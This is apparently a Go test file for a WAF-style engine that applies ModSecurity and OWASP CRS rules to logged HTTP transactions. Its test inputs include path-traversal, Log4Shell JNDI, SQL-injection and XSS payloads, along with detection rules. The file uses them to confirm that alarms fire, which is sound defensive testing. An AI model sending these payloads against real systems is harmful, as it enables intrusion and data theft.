package engine

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/modsecurity-for-anylog/msa/mapping"
	"github.com/modsecurity-for-anylog/msa/rules"
	"github.com/modsecurity-for-anylog/msa/test/hostile"
)

// config is the default one, with these rules.
func config(rules ...string) Config {
	return Config{Rules: rules, ParanoiaLevel: 1, InboundThreshold: 5, OutboundThreshold: 4, BodyLimit: 128 << 10}
}

func newEngine(t testing.TB, cfg Config) *Engine {
	t.Helper()
	e, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := e.Close(); err != nil {
			t.Error(err)
		}
	})
	return e
}

var crs = sync.OnceValues(func() (*Engine, error) { return New(config("crs")) })

func withCRS(t testing.TB) *Engine {
	t.Helper()
	e, err := crs()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// Requests as a browser would send them.
var get, post = hostile.Get, hostile.Post

func inspect(t testing.TB, e *Engine, tx *mapping.Transaction) Verdict {
	t.Helper()
	v, err := e.Inspect(tx)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func ids(v Verdict) []int {
	var all []int
	for _, m := range v.Matches {
		all = append(all, m.RuleID)
	}
	return all
}

func TestInspect(t *testing.T) {
	truncated := func(tx *mapping.Transaction) *mapping.Transaction {
		tx.RequestBody.Truncated = true
		return tx
	}
	response := func(body string) *mapping.Transaction {
		tx := get("/")
		tx.ResponseBody.Text = body
		return tx
	}
	for _, c := range []struct {
		name  string
		tx    *mapping.Transaction
		alarm bool
		rules []int // that match, among others
	}{
		{"benign", get("/index.html?page=2"), false, nil},
		{"path traversal", get("/?t=../../etc/passwd"), true, []int{930100, 930110, 930120, 932160, 949110}},
		{"log4shell in a header", get("/", mapping.Header{Name: "X-Api-Version", Value: "${jndi:ldap://10.9.9.9/a}"}), true, []int{944150}},
		{"scanner", get("/", mapping.Header{Name: "User-Agent", Value: "Nikto/2.5.0"}), true, []int{913100}},
		{"form", post("application/x-www-form-urlencoded", "id=1'+UNION+SELECT+password+FROM+users--"), true, []int{942100}},
		{"JSON", post("application/json", `{"id":"1' UNION SELECT password FROM users--"}`), true, []int{942100}},
		{"JSON that is cut", truncated(post("application/json", `{"id":"1' UNION SELECT password FROM users--","x":`)), true, nil},
		{"benign JSON that is cut", truncated(post("application/json", `{"id":17,"name":"Ann","x":`)), false, nil},
		{"broken JSON that is whole", post("application/json", `{"id":17,"name":`), true, []int{200002}},
		{"multipart that is cut", truncated(post("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n<script>alert(1)</script>")), true, []int{941110}},
		{"body of unknown type", post("", "q=<script>alert(1)</script>"), true, []int{941110}},
		{"SQL error in a response without Content-Type", response("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"), true, []int{951230, 959100}},
		{"benign response", response("<html>hello</html>"), false, nil},
		{"host is an address", get("/", mapping.Header{Name: "X-A", Value: "b"}), false, nil},
		{"nothing known but the URI", &mapping.Transaction{URI: "/index.html"}, false, nil},
		{"nothing known but an attack", &mapping.Transaction{URI: "/?x=<script>alert(1)</script>"}, true, []int{941110}},
		{"no URI", &mapping.Transaction{RequestHeaders: []mapping.Header{{Name: "A", Value: "${jndi:ldap://x/a}"}}}, true, []int{944150}},
		{"long address", &mapping.Transaction{URI: "/", Client: mapping.Endpoint{Address: strings.Repeat("1", 1100), Port: "x"}}, false, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			v := inspect(t, withCRS(t), c.tx)
			if v.Alarm != c.alarm {
				t.Errorf("alarm is %v, want %v: %v, scores %d and %d", v.Alarm, c.alarm, ids(v), v.ScoreIn, v.ScoreOut)
			}
			for _, id := range c.rules {
				if !slices.Contains(ids(v), id) {
					t.Errorf("rule %d did not match: %v", id, ids(v))
				}
			}
			if c.alarm && slices.Contains(ids(v), 949110) && v.ScoreIn < 5 {
				t.Errorf("inbound score is %d", v.ScoreIn)
			}
		})
	}
}

// A host that is an address is nearly always normal inside a cloud.
func TestHostAddressAloneIsNoAlarm(t *testing.T) {
	tx := get("/")
	tx.RequestHeaders[0].Value = "10.0.0.2"
	v := inspect(t, withCRS(t), tx)
	if got := ids(v); v.Alarm || !slices.Contains(got, 920350) || v.ScoreIn != 3 {
		t.Errorf("alarm %v, rules %v, score %d", v.Alarm, got, v.ScoreIn)
	}
	if top := v.Top(); top.RuleID != 920350 {
		t.Errorf("the reporting rule %d stands for the rest", top.RuleID)
	}
}

// The absence of a header alarms only where the log would have shown the header.
func TestAbsence(t *testing.T) {
	cfg := config("crs")
	cfg.ParanoiaLevel = 2
	e := newEngine(t, cfg)
	for _, c := range []struct {
		name     string
		observed mapping.Observed
		missing  []int
	}{
		{"all headers logged", mapping.Observed{Request: mapping.ObservedHeaders{All: true}}, []int{920280, 920320}},
		{"host logged", mapping.Observed{Request: mapping.ObservedHeaders{Names: []string{"host"}}}, []int{920280}},
		{"agent logged", mapping.Observed{Request: mapping.ObservedHeaders{Names: []string{"user-agent"}}}, []int{920320}},
		{"nothing logged", mapping.Observed{}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			tx := get("/")
			tx.RequestHeaders, tx.Observed = nil, c.observed
			var got []int
			for _, id := range ids(inspect(t, e, tx)) {
				if id/1000 == 920 {
					got = append(got, id)
				}
			}
			if !slices.Equal(got, c.missing) {
				t.Errorf("got %v, want %v", got, c.missing)
			}
		})
	}
	for _, a := range e.absence {
		if a.rule == 920350 || a.rule == 920230 || a.rule/1000 == 949 {
			t.Errorf("rule %d is taken for one that tests the absence of %v", a.rule, a.parts)
		}
	}
	if len(e.absence) < 8 {
		t.Errorf("only %d rules test absence", len(e.absence))
	}
}

func TestTop(t *testing.T) {
	v := Verdict{Matches: []Match{
		{RuleID: 1, Severity: 2, role: rules.Noise},
		{RuleID: 2, Severity: 4},
		{RuleID: 3, Severity: 2, role: rules.Scores},
		{RuleID: 4, Severity: 2},
		{RuleID: 5, Severity: 0, role: rules.Evaluates},
		{RuleID: 6, Severity: SeverityUnset},
	}}
	if top := v.Top(); top.RuleID != 3 {
		t.Errorf("got rule %d, want the first of the most severe that detect", top.RuleID)
	}
	v.Matches = append(v.Matches, Match{RuleID: 7, Severity: 1, Policy: true})
	if got := v.MostSevere(); got != 2 {
		t.Errorf("the most severe that is evidence is %d", got)
	}
	v.Matches = v.Matches[4:]
	if got := v.MostSevere(); got != 0 {
		t.Errorf("the most severe is %d where none is evidence", got)
	}
}

func TestMatched(t *testing.T) {
	for _, c := range []struct {
		name string
		m    Match
		want string
	}{
		{"ModSecurity's words", Match{Operator: "pmFromFile", Operand: "unix-shell.data", Variable: "ARGS:t", Value: "../../etc/passwd"},
			"Matched \"Operator `PmFromFile' with parameter `unix-shell.data' against variable `ARGS:t' (Value: `../../etc/passwd' )"},
		{"no parameter, bytes", Match{Operator: "detectSQLi", Variable: "ARGS:q", Value: "a\x00\xff"},
			"Matched \"Operator `DetectSQLi' with parameter `' against variable `ARGS:q' (Value: `a\\x00\\xff' )"},
		{"long value", Match{Operator: "!streq", Operand: "x", Variable: "V", Value: strings.Repeat("v", 110)},
			"Matched \"Operator `!StrEq' with parameter `x' against variable `V' (Value: `" + strings.Repeat("v", 100) + " (10 characters omitted)' )"},
		{"SecAction", Match{}, "Unconditional match in SecAction."},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := c.m.Matched(); got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}

// file writes a rules file.
func file(t testing.TB, name, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestOwnRules(t *testing.T) {
	const detect = `SecRule ARGS:x "@streq evil" "id:1,phase:2,deny,status:403,log,msg:'evil',severity:CRITICAL"` + "\n"
	for _, c := range []struct {
		name, rules string
		uri         string
		want        []int
		warning     string // in one of the warnings
	}{
		{"a rule", detect, "/?x=evil", []int{1}, ""},
		{"silent", detect, "/?x=good", nil, ""},
		{"engine off is not followed", "SecRuleEngine Off\n" + detect, "/?x=evil", []int{1}, "SecRuleEngine Off"},
		{"deny does not end the transaction", detect + `SecRule ARGS "@contains vi" "id:2,phase:2,pass,log"`, "/?x=evil", []int{1, 2}, ""},
		{"Windows line ends, BOM, tabs", "\ufeff" + strings.ReplaceAll(strings.ReplaceAll(detect, "\n", "\r\n"), "SecRule ", "SecRule\t"), "/?x=evil", []int{1}, ""},
		{"without quotes", "SecRule ARGS evil id:2,phase:2,pass,log", "/?x=evil", []int{2}, ""},
		{"directives that Coraza lacks", "SecUnicodeMapFile unicode.mapping 20127\nSecStatusEngine On\nSecAuditLogRelevantStatus \"^(?:5|4(?!04))\"\n" + detect, "/?x=evil", []int{1}, "x.conf:1: SecUnicodeMapFile is skipped"},
		{"files are not written", "SecAuditEngine On\nSecAuditLog /nonexistent/audit.log\nSecDebugLog /nonexistent/debug.log\n" + detect, "/?x=evil", []int{1}, "x.conf:2: SecAuditLog is ignored"},
		{"prefilter", "SecRxPreFilter On\n" + detect, "/?x=evil", []int{1}, "loses detections"},
		{"a pattern of PCRE", `SecRule ARGS "@rx (?<!a)evil" "id:7,phase:2,pass,log"` + "\n" + detect, "/?x=evil", []int{1}, "x.conf:1: rule 7: skipped"},
		{"a chain with a pattern of PCRE", `SecRule ARGS "@rx evil" "id:7,phase:2,pass,log,chain"` + "\n" + `SecRule ARGS "@rx (?=e)"` + "\n" + detect, "/?x=evil", []int{1}, "x.conf:1: rule 7: skipped"},
		{"an unknown operator", `SecRule ARGS "@fly away" "id:7,phase:2,pass,log"` + "\n" + detect, "/?x=evil", []int{1}, "rule 7: skipped"},
		{"a program", `SecRule ARGS "@inspectFile /bin/echo" "id:7,phase:2,pass,log"` + "\n" + detect, "/?x=evil", []int{1}, "rule 7: skipped: @inspectFile runs a program"},
		{"a script", `SecRuleScript check.lua "id:7,phase:2,deny"` + "\n" + detect, "/?x=evil", []int{1}, "x.conf:1: rule 7: skipped: it runs a script of Lua"},
		{"a script without actions", "SecRuleScript check.lua\n" + detect, "/?x=evil", []int{1}, "x.conf:1: skipped: it runs a script of Lua"},
		{"a chain with a script", `SecRule ARGS "@rx evil" "id:7,phase:2,pass,log,chain"` + "\n" + `SecRuleScript check.lua "t:none,chain"` + "\n" + `SecRule ARGS "evil"` + "\n" + detect, "/?x=evil", []int{1}, "x.conf:1: rule 7: skipped: it runs a script of Lua"},
		{"a name server", `SecRule ARGS "!@rbl dnsbl.example" "id:7,phase:2,pass,log"` + "\n" + detect, "/?x=evil", []int{1}, "rule 7: skipped: @rbl asks a name server"},
		{"a schema", `SecRule REQUEST_BODY "@validateSchema schema.json" "id:7,phase:2,pass,log"` + "\n" + detect, "/?x=evil", []int{1}, "rule 7: skipped: @validateSchema reads JSON schemas"},
		{"a collection that Coraza lacks", `SecRule ARGS "@rx evil" "id:7,phase:2,pass,log,setvar:'ip.bad=1',expirevar:'ip.bad=60'"`, "/?x=evil", []int{7}, ""},
		{"two default actions", "SecDefaultAction \"phase:2,log,pass\"\nSecDefaultAction \"phase:2,nolog,auditlog,pass\"\n" + detect, "/?x=evil", []int{1}, ""},
		{"audit log only", "SecDefaultAction \"phase:2,nolog,auditlog,pass\"\n" + `SecRule ARGS "evil" "id:3,phase:2,block,msg:'m'"`, "/?x=evil", []int{3}, ""},
		{"an Apache section", "<IfModule security2_module>\n" + detect + "</IfModule>\n<Location /x>\nSecRuleRemoveById 1\n</Location>", "/?x=evil", []int{1}, "section <Location /x> is skipped"},
		{"a rule with nolog", `SecRule ARGS "evil" "id:3,phase:2,pass,nolog"`, "/?x=evil", nil, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEngine(t, config(file(t, "x.conf", c.rules)))
			v := inspect(t, e, get(c.uri))
			if got := ids(v); !slices.Equal(got, c.want) || v.Alarm != (len(c.want) > 0) {
				t.Errorf("got %v, alarm %v, want %v; warnings %v", got, v.Alarm, c.want, e.Warnings())
			}
			found := c.warning == "" && len(e.Warnings()) == 0
			for _, w := range e.Warnings() {
				found = found || c.warning != "" && strings.Contains(w.String(), c.warning)
			}
			if !found {
				t.Errorf("warnings are %v, want %q", e.Warnings(), c.warning)
			}
		})
	}
}

func TestBrokenRules(t *testing.T) {
	for _, c := range []struct{ name, rules, want string }{
		{"a quote is missing", "\nSecRule ARGS \"@rx x \"id:1,phase:2,pass\"", "x.conf:2: SecRule:"},
		{"no directive", "# text\nhello world", "x.conf:2: \"hello\" is not a directive"},
		{"a directive is misspelt", "SecRul ARGS x id:1", "x.conf:1: \"SecRul\""},
		{"continued into nothing", "SecRule ARGS x \\\n", "x.conf:1: the directive does not end"},
		{"no id", `SecRule ARGS "x" "phase:2,pass"`, "x.conf:1: the rule has no id"},
		{"an id twice", "SecAction \"id:1,phase:1,pass\"\nSecAction \"id:1,phase:1,pass\"", "x.conf:2: rule 1 is already at"},
		{"a chain without an end", `SecRule ARGS "x" "id:1,phase:2,pass,chain"`, "rule 1: the chain has no next rule"},
		{"a script with too many arguments", `SecRuleScript a.lua "id:1" "phase:2"`, "x.conf:1: SecRuleScript: needs a script and actions"},
		{"too many arguments", `SecRule ARGS "x" "id:1" "phase:2"`, "x.conf:1"},
		{"included file is missing", "Include none.conf", "x.conf:1: cannot include none.conf"},
		{"empty", "# nothing", "no rule in them"},
		{"only rules that can't be used", `SecRule ARGS "@rx (?<!a)b" "id:1,phase:2,pass"`, "no rule in them"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := New(config(file(t, "x.conf", c.rules)))
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v, want %q", err, c.want)
			}
		})
	}
}

func TestExclude(t *testing.T) {
	attack := "/shop/search?q=1'+UNION+SELECT+password+FROM+users--"
	for _, c := range []struct {
		exclude []string
		uri     string
		without func(id int) bool // must hold for no match
		alarm   bool
	}{
		{nil, attack, nil, true},
		{[]string{"942100"}, attack, func(id int) bool { return id == 942100 }, true},
		{[]string{"942000-942999"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli@/shop/"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"942000-942999@/shop/"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"942000-942999@/other/"}, attack, nil, true},
		{[]string{"attack-sqli@ARGS:q"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli@ARGS:other"}, attack, nil, true},
		{[]string{"942100@ARGS:q"}, attack, func(id int) bool { return id == 942100 }, true},
		{[]string{"942000-942999@10.0.0.0/24"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli@10.0.0.1"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli@192.0.2.0/24"}, attack, nil, true},
		{[]string{"*@10.0.0.0/8"}, attack, func(int) bool { return true }, false},
		{[]string{"*@/shop/"}, attack, func(int) bool { return true }, false},
		{[]string{"*@/other/"}, attack, nil, true},
		{[]string{"attack-sqli@server:shop/deployment/search"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli@server:shop/search"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"942000-942999@workload:shop/*"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"942100@client:ci/serviceaccount/scanner", "942101@/"}, attack, func(id int) bool { return id == 942100 }, true},
		{[]string{"*@client:scanner"}, attack, func(int) bool { return true }, false},
		{[]string{"attack-sqli@client:shop/search"}, attack, nil, true},
		{[]string{"attack-sqli@server:shop/statefulset/search"}, attack, nil, true},
		{[]string{"attack-sqli@server:other/search"}, attack, nil, true},
		{[]string{"attack-sqli@/shop/@ARGS:q"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli@ARGS:q@/shop/"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"942100@/shop/@ARGS:Q"}, attack, func(id int) bool { return id == 942100 }, true},
		{[]string{"attack-sqli@/other/@ARGS:q"}, attack, nil, true},
		{[]string{"attack-sqli@/shop/@ARGS:other"}, attack, nil, true},
		{[]string{"942000-942999@host:Shop.Example"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"942000-942999@host:other.example"}, attack, nil, true},
		{[]string{"*@host:shop.example@10.0.0.0/8"}, attack, func(int) bool { return true }, false},
		{[]string{"*@host:shop.example@192.0.2.0/24"}, attack, nil, true},
		{[]string{"attack-sqli@client:scanner@server:shop/search@ARGS:/^q$/"}, attack, func(id int) bool { return id/1000 == 942 }, false},
		{[]string{"attack-sqli@client:scanner@server:shop/other@ARGS:q"}, attack, nil, true},
		{[]string{"999999@ARGS:q"}, attack, nil, true},
	} {
		t.Run(strings.Join(c.exclude, " "), func(t *testing.T) {
			cfg := config("crs")
			cfg.Exclude = c.exclude
			tx := get(c.uri)
			tx.Host = "shop.example"
			tx.ClientWorkload = mapping.Workload{Namespace: "ci", Kind: "pod", Name: "scanner", Account: "ci/scanner"}
			tx.ServerWorkload = mapping.Workload{Namespace: "shop", Kind: "deployment", Name: "search"}
			v := inspect(t, newEngine(t, cfg), tx)
			if v.Alarm != c.alarm || c.without != nil && slices.ContainsFunc(ids(v), c.without) {
				t.Errorf("alarm %v, rules %v", v.Alarm, ids(v))
			}
		})
	}
	for _, bad := range []string{"", "9421x00", "99999999999999999999", "1-99999999999999999999", "942200-942100", "942100@", "942100@\"x", "x\"y", "*", "*@ARGS:q", "942100@10.0.0.0/99", "942100@server:", "942100@server:*/*/*", "942100@server:a/b/c/d",
		"942100@/a@/b", "942100@/a@args:q", "942100@ARGS:q@ARGS:r", "942100@NOSUCH:q", "942100@ARGS:/(/", "*@/a@ARGS:q", "942100@host:"} {
		cfg := config("crs")
		cfg.Exclude = []string{bad}
		err := cfg.Validate()
		if err == nil || !strings.Contains(err.Error(), "exclude") || strings.Contains(err.Error(), "* stands for all rules") != strings.HasPrefix(bad, "*") {
			t.Errorf("%q: got %v", bad, err)
		}
	}
}

// Matches in XML are named by what holds them, and an exclusion may name it so.
func TestExcludeOfXML(t *testing.T) {
	own := rulesFile(t, `SecRule XML:/* "@contains passwd" "id:1,phase:2,pass,log"`)
	tx := &mapping.Transaction{
		Method: "POST", URI: "/x", Protocol: "HTTP/1.1", Status: 200, RequestHeaders: []mapping.Header{{Name: "Content-Type", Value: "text/xml"}},
		RequestBody: mapping.Body{Text: "<a><b>passwd</b></a>"},
	}
	v := inspect(t, newEngine(t, config(own)), tx)
	if len(v.Matches) != 1 {
		t.Fatalf("got %+v", v)
	}
	for limit, want := range map[string]int{v.Matches[0].Variable: 0, strings.TrimPrefix(v.Matches[0].Variable, "REQUEST_"): 0, "XML:/other": 1} {
		cfg := config(own)
		cfg.Exclude = []string{"1@" + limit}
		if v := inspect(t, newEngine(t, cfg), tx); len(v.Matches) != want {
			t.Errorf("without %s there are %d matches", limit, len(v.Matches))
		}
	}
}

func TestParanoiaLevelAndThreshold(t *testing.T) {
	tx := get("/?q=a'b\"c;d&lang[]=x")
	low := inspect(t, withCRS(t), tx)
	level := func(n int) Config {
		cfg := config("crs")
		cfg.ParanoiaLevel = n
		return cfg
	}
	high := inspect(t, newEngine(t, level(4)), tx)
	if v := inspect(t, newEngine(t, level(2)), post("application/x-www-form-urlencoded", "a=\xac\xed\x00\x05")); !slices.Contains(ids(v), 944200) {
		t.Errorf("bytes that are not UTF-8 are lost: %v", ids(v))
	}
	if low.Alarm || !high.Alarm || len(high.Matches) <= len(low.Matches) {
		t.Errorf("level 1: %v %v, level 4: %v %v", low.Alarm, ids(low), high.Alarm, ids(high))
	}
	cfg := config("crs")
	cfg.InboundThreshold = 1000
	if v := inspect(t, newEngine(t, cfg), get("/?t=../../etc/passwd")); v.Alarm || v.ScoreIn < 5 {
		t.Errorf("alarm %v below the threshold, score %d", v.Alarm, v.ScoreIn)
	}
}

// A crs-setup.conf that raises the blocking level only has the detection level follow, as CRS does.
func TestParanoiaLevelOfSetup(t *testing.T) {
	setup := file(t, "setup.conf", `SecAction "id:900000,phase:1,pass,t:none,nolog,setvar:tx.blocking_paranoia_level=2"`)
	e := newEngine(t, config(setup, "crs"))
	if v := inspect(t, e, get("/index.html", mapping.Header{Name: "User-Agent", Value: "curl/8.5.0"})); len(v.Matches) > 0 {
		t.Errorf("%v match what is harmless", ids(v))
	}
	if v := inspect(t, e, get("/?t=%27+or+1")); !slices.Contains(ids(v), 942330) {
		t.Errorf("rules %v, without 942330 of level 2", ids(v))
	}
}

func TestSources(t *testing.T) {
	dir := t.TempDir()
	for name, text := range map[string]string{
		"b.conf":      `SecRule ARGS "@pmFromFile words.data" "id:2,phase:2,pass,log"`,
		"a.conf":      "Include sub/*.conf\nIncludeOptional none/*.conf\n" + `SecAction "id:1,phase:1,pass,nolog"`,
		"words.data":  "evil\n",
		"sub/c.conf":  `SecRule ARGS "evil" "id:3,phase:2,pass,log"`,
		"ignored.txt": "no rules",
	} {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []struct {
		name   string
		source []string
		want   []int
	}{
		{"directory", []string{dir}, []int{3, 2}},
		{"glob", []string{filepath.Join(dir, "*.conf")}, []int{3, 2}},
		{"two files", []string{filepath.Join(dir, "b.conf"), filepath.Join(dir, "sub/c.conf")}, []int{2, 3}},
		{"a file of CRS", []string{"crs/REQUEST-932-APPLICATION-ATTACK-RCE"}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := ids(inspect(t, newEngine(t, config(c.source...)), get("/?x=evil"))); !slices.Equal(got, c.want) {
				t.Errorf("got %v, want %v", got, c.want)
			}
		})
	}
	for source, want := range map[string]string{
		"crz":                            "no rule set of that name",
		"crs/NONE":                       "no file matches, on disk or of CRS",
		filepath.Join(dir, "none.conf"):  "no such file",
		filepath.Join(dir, "none*.conf"): "no file matches",
		t.TempDir():                      "no .conf file",
		"":                               "empty",
	} {
		if _, err := New(config(source)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: got %v, want %q", source, err, want)
		}
	}
}

// A data file that changed must not be served from Coraza's memory after a reload.
func TestChangedDataFile(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("x.conf", `SecRule ARGS "@pmFromFile words.data" "id:2,phase:2,pass,log"`)
	write("words.data", "first\n")
	newEngine(t, config(dir))
	write("words.data", "second\n")
	if v := inspect(t, newEngine(t, config(dir)), get("/?x=second")); !v.Alarm {
		t.Error("the old data file is still in use")
	}
}

// Debian's modsecurity-crs is CRS 3.3, written for PCRE and persistent collections.
func TestDebianCRS(t *testing.T) {
	const setup, dir = "/etc/modsecurity/crs/crs-setup.conf", "/usr/share/modsecurity-crs/rules"
	if _, err := os.Stat(dir); err != nil {
		t.Skip("modsecurity-crs is not installed: ", err)
	}
	e := newEngine(t, config(setup, dir))
	if n := e.RuleCount(); n < 550 {
		t.Errorf("only %d rules", n)
	}
	skipped := 0
	for _, w := range e.Warnings() {
		if !strings.Contains(w.File, "/") || w.Line == 0 {
			t.Errorf("%q names no file and line", w)
		}
		if strings.HasPrefix(w.Text, "skipped:") {
			skipped++
			if w.Rule == 0 {
				t.Errorf("%q names no rule", w)
			}
		}
	}
	if skipped == 0 || skipped > 25 {
		t.Errorf("%d rules skipped", skipped)
	}
	for uri, alarm := range map[string]bool{"/?t=../../etc/passwd": true, "/index.html?page=2": false} {
		if v := inspect(t, e, get(uri)); v.Alarm != alarm || alarm && v.ScoreIn < 5 {
			t.Errorf("%s: alarm %v, rules %v, score %d", uri, v.Alarm, ids(v), v.ScoreIn)
		}
	}
	if v := inspect(t, e, get("/", mapping.Header{Name: "User-Agent", Value: "Nikto/2.5.0"})); !slices.Contains(ids(v), 913100) {
		t.Errorf("scanner not found: %v", ids(v))
	}
}

func TestConcurrent(t *testing.T) {
	e := withCRS(t)
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range 20 {
				uri, alarm := "/index.html", false
				if i%2 == 0 {
					uri, alarm = "/?t=../../etc/passwd", true
				}
				if v, err := e.Inspect(get(uri)); err != nil || v.Alarm != alarm {
					t.Errorf("%s: alarm %v, %v", uri, v.Alarm, err)
				}
			}
		}()
	}
	wg.Wait()
}

func BenchmarkInspect(b *testing.B) {
	for name, uri := range map[string]string{"benign": "/index.html?page=2", "attack": "/?t=../../etc/passwd"} {
		b.Run(name, func(b *testing.B) {
			e, tx := withCRS(b), get(uri)
			b.ReportAllocs()
			for b.Loop() {
				if _, err := e.Inspect(tx); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// What rules find does not depend on chance, where a name has many values: Coraza goes through them in an order that
// changes, and tells what it has transformed apart by where their names are in memory.
func TestRepeatedNames(t *testing.T) {
	cfg := config("crs")
	cfg.ParanoiaLevel = 2
	e := newEngine(t, cfg)
	const attack = `<embed src="deuce.swF">`
	form := post("application/x-www-form-urlencoded", "var=%3Cembed+src%3D%22deuce.swF%22%3E&var&#x32;=whatever&x=1")
	cookies := get("/", mapping.Header{Name: "Cookie", Value: "a=" + attack + "; a=1; b=2; c=3"})
	headers := get("/", mapping.Header{Name: "X-A", Value: attack}, mapping.Header{Name: "X-A", Value: "1"}, mapping.Header{Name: "X-B", Value: "2"})
	query := get("/?var=%3Cembed+src%3D%22deuce.swF%22%3E&var=1&x=1&y=2")
	for name, tx := range map[string]*mapping.Transaction{"form": form, "cookies": cookies, "headers": headers, "query": query} {
		want := inspect(t, e, tx)
		for range 100 {
			if got := inspect(t, e, tx); !slices.Equal(ids(got), ids(want)) || got.ScoreIn != want.ScoreIn {
				t.Errorf("%s: once rules %v with score %d, once %v with %d", name, ids(want), want.ScoreIn, ids(got), got.ScoreIn)
				break
			}
		}
	}
}

// Exclusions as CRS's plugins have them: behind a switch, and by patterns of names.
func TestExclusionPlugins(t *testing.T) {
	const plugin = `SecRule TX:notes-plugin_enabled "@eq 0" "id:9599100,phase:1,pass,nolog,ctl:ruleRemoveById=9599101-9599199"
SecRule REQUEST_FILENAME "@endsWith /notes/save" "id:9599101,phase:1,pass,nolog,t:none,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:/^note\[\d+\]$/"`
	const attack = "1'+UNION+SELECT+password+FROM+users--"
	switched := func(to string) string {
		return file(t, "plugin.conf", `SecAction "id:9599099,phase:1,pass,nolog,setvar:tx.notes-plugin_enabled=`+to+`"`+"\n"+plugin)
	}
	for _, c := range []struct {
		name, enabled, uri string
		alarm              bool
	}{
		{"on", "1", "/notes/save?note[12]=" + attack, false},
		{"on, another name", "1", "/notes/save?note[x]=" + attack, true},
		{"on, elsewhere", "1", "/notes/find?note[12]=" + attack, true},
		{"off", "0", "/notes/save?note[12]=" + attack, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEngine(t, config(switched(c.enabled), "crs"))
			if w := e.Warnings(); len(w) > 0 {
				t.Errorf("warnings are %v", w)
			}
			v := inspect(t, e, get(c.uri))
			sqli := slices.ContainsFunc(ids(v), func(id int) bool { return id/1000 == 942 })
			if v.Alarm != c.alarm || sqli != c.alarm {
				t.Errorf("alarm %v, rules %v", v.Alarm, ids(v))
			}
		})
	}
}
